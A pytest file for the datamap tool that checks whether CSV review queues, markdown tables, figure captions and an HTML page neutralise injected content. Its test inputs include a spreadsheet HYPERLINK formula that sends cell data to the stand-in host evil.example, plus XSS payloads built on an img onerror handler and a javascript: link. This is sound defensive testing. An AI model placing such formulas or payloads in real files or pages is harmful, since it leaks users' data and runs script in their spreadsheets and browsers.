"""Data values that are markup, formulas or TeX reach people as the text they are: the review
queue and every other CSV a person opens (spreadsheet-guarded), summary.md and the tables sent
to trackers (markdown-escaped), figure captions (no TeX), and the page (by position, ids in
range)."""

from __future__ import annotations

from types import SimpleNamespace

import markdown
import numpy as np
import pandas as pd
import pytest

from datamap.cartography.figures import plot_review_grid
from datamap.cartography.page import Texts, build_page, page_meta
from datamap.cartography.review import review_queue, with_inputs
from datamap.data.labelstudio import read_queue
from datamap.errors import DataError
from datamap.io import write_csv
from datamap.markdown import Markup, cell, escape, markdown_table
from datamap.report.comparison import comparison_table

from .helpers import PAGE_CLASSES, synthetic_points
from .test_data_map_page import blob, strings

FORMULA_CLASSES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "-1"]


def test_the_review_queue_is_guarded_and_read_back_exactly(tmp_path):
    scores = pd.DataFrame({"id": [1, 2, 3], "gold": [0, 1, 2],
                           "region": ["hard-to-learn"] * 3, "confidence": [0.1, 0.2, 0.3],
                           "variability": [0.1] * 3, "correctness": [0.0, 0.1, 0.2]})
    predictions = pd.Series([1, 0, 0], index=[1, 2, 3])
    train = SimpleNamespace(ids=np.array([1, 2, 3]),
                            text=np.array(["=1+1", "-2+3", "plain"], dtype=object),
                            text_pair=None, files=None)
    queue = with_inputs(review_queue(scores, predictions, FORMULA_CLASSES, 10), train)
    write_csv(tmp_path / "hard_to_learn.csv", queue)
    raw = pd.read_csv(tmp_path / "hard_to_learn.csv", dtype=str, keep_default_na=False)
    # what a spreadsheet sees: no cell starts a formula; a plain number stays a number
    for column in ("given_label", "model_label", "text"):
        assert not raw[column].str.match(r"[=+@]|-(?![0-9.]+$)").any(), raw[column].tolist()
    assert raw["given_label"].tolist()[2] == "-1"
    assert raw["text"].tolist() == ["'=1+1", "'-2+3", "plain"]
    back = read_queue(tmp_path / "hard_to_learn.csv")
    assert back["given_label"].tolist() == FORMULA_CLASSES
    assert back["text"].tolist() == ["=1+1", "-2+3", "plain"]
    assert back["id"].tolist() == [1, 2, 3]


def test_markdown_cells_render_as_their_own_characters():
    hostile = ['<img src=x onerror="alert(1)">', "cat\\|dog", "[click](javascript:alert(2))",
               "`code`", "a*b*c", "x & y"]
    table = markdown_table(["value", "next"], [[v, "after"] for v in hostile])
    html = markdown.markdown(table, extensions=["tables"])
    assert "<img" not in html and "<a " not in html and "<code>" not in html
    assert "<em>" not in html
    # every row keeps its two columns: the value, then "after"
    assert html.count("<td>after</td>") == len(hostile)
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in html or \
        "&lt;img src=x onerror=\"alert(1)\"&gt;" in html
    assert "cat\\|dog" in html.replace("&#92;", "\\")  # the backslash shown, the pipe too
    # markup datamap wrote itself is kept (a code span), its pipes still escaped
    assert cell(Markup("`spec`")) == "`spec`" and cell(Markup("a|b")) == "a\\|b"
    assert escape("line\nbreak\u2028here") == "line break here"


def test_summary_table_escapes_class_names_and_keeps_its_columns():
    m = {"mean": 0.9, "std": 0.01}
    entry = {"n_train": 10, "fraction": 1.0, "seeds": 1,
             "regions": {"easy_to_learn": 1, "ambiguous": 0, "hard_to_learn": 0},
             "test": {"accuracy": m, "macro_f1": m, "loss": m}}
    lacks = {"full": ['<img src=x onerror="alert(document.domain)">', "cat\\|dog"]}
    html = markdown.markdown(comparison_table({"full": entry}, None, lacks),
                             extensions=["tables"])
    assert "<img" not in html
    assert "<td>0.900 ± 0.010</td>" in html  # test acc in its own column, not shifted
    assert "<code>full</code>" in html


@pytest.mark.parametrize("labels", [("under $5", "over $5"), ("$\\x", "y$")])
def test_review_grid_captions_are_text_not_tex(tmp_path, labels):
    queue = pd.DataFrame({"id": [1], "given_label": [labels[0]], "model_label": [labels[1]]})
    plot_review_grid(queue, {1: np.zeros((1, 8, 8))}, tmp_path / "grid.png")
    assert (tmp_path / "grid.png").stat().st_size > 0


def test_page_pairs_texts_by_position_even_from_a_shuffled_series():
    points = synthetic_points(6, seed=1)
    frame = points.assign(text=[f"text of id {i}" for i in points["id"]])
    shuffled = frame.sample(frac=1, random_state=0)  # its index: a permutation, not 0..5
    html = build_page(shuffled, PAGE_CLASSES, Texts(shuffled["text"]), title="t",
                      region_rule="r")
    meta = page_meta(html)
    ids = blob(html, meta["columns"]["id"])
    assert strings(html, meta["preview"]["texts"]) == [f"text of id {i}" for i in ids]


def test_page_refuses_ids_beyond_int64():
    points = synthetic_points(3, seed=2)
    points["id"] = np.array([2**63 + 5, 1, 2], dtype=np.uint64)
    with pytest.raises(DataError, match="beyond the 64-bit signed integers"):
        build_page(points, PAGE_CLASSES, title="t", region_rule="r")
